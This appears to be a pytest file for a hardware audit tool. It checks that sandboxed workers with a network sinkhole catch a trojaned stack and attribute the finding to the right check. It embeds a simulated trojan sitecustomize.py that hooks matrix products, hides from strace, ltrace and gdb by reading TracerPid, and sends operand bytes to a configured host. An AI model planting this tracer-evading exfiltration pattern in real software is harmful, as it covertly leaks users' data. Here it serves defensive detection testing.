"""The audit's workers run under sensors they cannot see (runner/watched.py): a device stack that
reports home only while no tracer watches is caught, in category behaviour, on the check it was
computing for; an honest audit passes next to a host process that talks over loopback and writes
files; each check's coverage names the sensors, and what did not watch is a limit."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import chipaudit, cli_env, load

from chipaudit.perturb import sinkhole
from chipaudit.process.child import Wrapper
from chipaudit.report.model import Category, CheckResult, Finding, Status
from chipaudit.runner.watchdog import Events, PlannedCheck, run_plan
from chipaudit.runner.watched import STARTING, WorkerSensors
from chipaudit.sensors.watch import Watch

SRC = Path(__file__).parents[1] / "src"
needs_sinkhole = pytest.mark.skipif(sinkhole.unavailable() != "", reason="needs a sinkhole (root, iproute2, tcpdump)")
MARK = b"TROJAN-"

# A trojaned stack as one ships: a sitecustomize.py on the PYTHONPATH that overrides the CPU matrix
# products through torch.library (the self-test's fault machinery), and reports the operands home
# only while nothing traces it. It never sends from the host's own network namespace: the tests'
# rule that nothing leaves the machine holds even if the sensors failed.
STACK = textwrap.dedent('''
    import os, socket
    from chipaudit.selftest.faults import Fault, operands

    HOST_NETNS = int(os.environ["BEACON_HOST_NETNS"])
    PROTO, HOST, PORT = os.environ["BEACON_PROTO"], os.environ["BEACON_HOST"], int(os.environ["BEACON_PORT"])
    DTYPE = os.environ.get("BEACON_DTYPE", "")
    TRACERS = ("strace", "ltrace", "gdb")
    SENT = [0]


    def watched():
        with open("/proc/self/status") as f:
            tracer = next(int(line.split()[1]) for line in f if line.startswith("TracerPid:"))
        with open(f"/proc/{os.getppid()}/comm") as f:
            parent = f.read().strip()
        return tracer != 0 or parent in TRACERS


    def report(data):
        if SENT[0] >= 3 or watched() or os.stat("/proc/self/ns/net").st_ino == HOST_NETNS:
            return
        SENT[0] += 1
        try:
            if PROTO == "udp":
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.sendto(data, (HOST, PORT))
            else:
                with socket.create_connection((HOST, PORT), timeout=2) as s:
                    s.sendall(data)
        except OSError:
            pass


    class Beacon(Fault, name="beacon", trigger="no tracer", description="reports operands home"):
        def after(self, kind, args, out, seconds):
            a, _ = operands(kind, args)
            if a.numel() >= 64 and (not DTYPE or str(a.dtype) == DTYPE):
                report(b"TROJAN-" + a.detach().reshape(-1)[:8].float().numpy().tobytes())
            return out


    if os.environ.get("BEACON_AT") == "start":
        report(b"TROJAN-hello")
    else:
        Beacon().install()
''')


def _host_netns() -> str:
    return str(os.stat("/proc/self/ns/net").st_ino)


def stack_env(tmp_path: Path, proto: str, host: str, port: int, **extra: str) -> dict[str, str]:
    folder = tmp_path / "stack"
    folder.mkdir(exist_ok=True)
    (folder / "sitecustomize.py").write_text(STACK)
    return {"PYTHONPATH": os.pathsep.join([str(folder), str(SRC)]), "BEACON_HOST_NETNS": _host_netns(),
            "BEACON_PROTO": proto, "BEACON_HOST": host, "BEACON_PORT": str(port), **extra}


def _free_udp_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def behaviour_findings(report: dict[str, Any]) -> list[dict[str, Any]]:
    return [f for f in report["findings"] if f["category"] == "behaviour"]


@pytest.mark.slow
@needs_sinkhole
@pytest.mark.parametrize("proto,host,port", [("udp", "127.0.0.1", 0), ("tcp", "198.51.100.7", 443)])
def test_a_stack_that_reports_home_only_untraced_fails_the_integrity_check(
        tmp_path: Path, proto: str, host: str, port: int) -> None:
    port = port or _free_udp_port()
    out = tmp_path / "report.json"
    run = chipaudit("run", "--level", "quick", "--only", "integrity.gemm.fp32", "--json", str(out),
                    env=cli_env(stack_env(tmp_path, proto, host, port)))
    assert run.returncode == 1, run.stdout + run.stderr
    report = load(out)
    (check,) = report["checks"]
    assert check["status"] == "failed"
    assert check["coverage"]["sensors"]["worker sinkhole"]["ran"] is True
    # The capture's finding carries the payload; the eBPF tracer, where it runs, may add its own.
    found_all = behaviour_findings(report)
    assert all(f["check"] == "integrity.gemm.fp32" for f in found_all), found_all
    assert all(f["evidence"]["target"] == f"AF_INET {host}:{port}" for f in found_all), found_all
    found = next(f for f in found_all if "TROJAN-" in f["evidence"]["examples"][0])
    assert found["severity"] == ("high" if host == "127.0.0.1" else "critical")


@pytest.fixture
def busy_host(tmp_path: Path) -> Iterator[Path]:
    """An unrelated process on the host that talks TCP over loopback and writes files, all audit long."""
    folder = tmp_path / "host-files"
    folder.mkdir()
    script = textwrap.dedent(f"""
        import socket, threading, time
        server = socket.create_server(("127.0.0.1", 0))
        port = server.getsockname()[1]
        def serve():
            while True:
                conn, _ = server.accept()
                with conn:
                    conn.sendall(conn.recv(64))
        threading.Thread(target=serve, daemon=True).start()
        n = 0
        while True:
            with socket.create_connection(("127.0.0.1", port)) as c:
                c.sendall(b"ping")
                c.recv(64)
            with open("{folder}/note-%d.txt" % (n % 5), "w") as f:
                f.write("busy %d" % n)
            n += 1
            time.sleep(0.05)
    """)
    proc = subprocess.Popen([sys.executable, "-c", script])
    try:
        yield folder
    finally:
        proc.kill()
        proc.wait()


@pytest.mark.slow
@needs_sinkhole
def test_an_honest_audit_passes_next_to_a_busy_host(busy_host: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.json"
    run = chipaudit("run", "--level", "quick", "--only", "integrity.gemm.fp32", "--json", str(out))
    assert run.returncode == 0, run.stdout + run.stderr
    report = load(out)
    assert not behaviour_findings(report)
    assert list(busy_host.iterdir()), "the host process wrote during the audit"
    sensors = report["checks"][0]["coverage"]["sensors"]
    assert sensors["worker sinkhole"]["ran"] and sensors["worker socket_sampling"]["ran"]


def _run(plan: list[PlannedCheck], env: dict[str, str], workdir: Path) -> tuple[dict[str, CheckResult], list[Finding]]:
    results: dict[str, CheckResult] = {}
    findings: list[Finding] = []

    def finished(result: CheckResult, found: list[Finding]) -> None:
        results[result.id] = result
        findings.extend(found)

    with Watch(workdir / "watch") as watch:
        run_plan(plan, {"device": "cpu", "level": "quick"}, Events(finished=finished), [Wrapper(env=env)],
                 WorkerSensors(watch, workdir / "workers", {}))
    return results, findings


CHEAP = [PlannedCheck("integrity.gemm.fp64", Category.integrity, 1, 120.0),
         PlannedCheck("integrity.gemm.bf16", Category.integrity, 2, 120.0)]


@needs_sinkhole
def test_a_report_is_attributed_to_the_check_that_was_running(tmp_path: Path) -> None:
    """The stack reports only on bf16 products: the finding is the bf16 check's, not the first one's."""
    port = _free_udp_port()
    results, findings = _run(CHEAP, stack_env(tmp_path, "udp", "127.0.0.1", port, BEACON_DTYPE="torch.bfloat16"),
                             tmp_path)
    assert results["integrity.gemm.fp64"].status is Status.passed
    assert results["integrity.gemm.bf16"].status is Status.failed
    (found,) = [f for f in findings if f.category is Category.behaviour]
    assert found.check == "integrity.gemm.bf16" and found.evidence["target"] == f"AF_INET 127.0.0.1:{port}"
    assert found.evidence["worlds"] == ["the audit worker"]


@needs_sinkhole
def test_a_report_at_start_up_goes_to_the_first_check(tmp_path: Path) -> None:
    port = _free_udp_port()
    results, findings = _run(CHEAP, stack_env(tmp_path, "udp", "127.0.0.1", port, BEACON_AT="start"), tmp_path)
    (found,) = [f for f in findings if f.category is Category.behaviour]
    assert found.check == "integrity.gemm.fp64"
    assert found.evidence["worlds"] == [f"the audit worker ({STARTING})"]
    assert results["integrity.gemm.fp64"].status is Status.failed
    assert results["integrity.gemm.bf16"].status is Status.passed


def test_without_a_sinkhole_the_limits_say_what_was_not_watched(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sinkhole, "unavailable", lambda: "no privilege to make a network namespace")
    results, _ = _run(CHEAP[:1], {}, tmp_path)
    result = results["integrity.gemm.fp64"]
    assert result.coverage["sensors"]["worker sinkhole"]["ran"] is False
    assert any(note.startswith("the worker was not watched by sinkhole: not run: no privilege")
               for note in result.coverage["limits"])


@needs_sinkhole
def test_a_worker_that_cannot_be_wired_to_the_sinkhole_errors_its_checks(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """No check runs outside its sensors, and none passes for it."""
    def attach(self: sinkhole.Sinkhole, name: str, online: bool = True) -> Any:
        def configure(pid: int) -> None:
            raise RuntimeError("the sinkhole could not wire the process: a test says no")
        return configure

    monkeypatch.setattr(sinkhole.Sinkhole, "attach", attach)
    results, _ = _run(CHEAP, {}, tmp_path)
    assert sorted(results) == sorted(c.id for c in CHEAP)
    for result in results.values():
        assert result.status is Status.error
        assert "could not be started under its sensors: the sinkhole could not wire" in (result.reason or "")
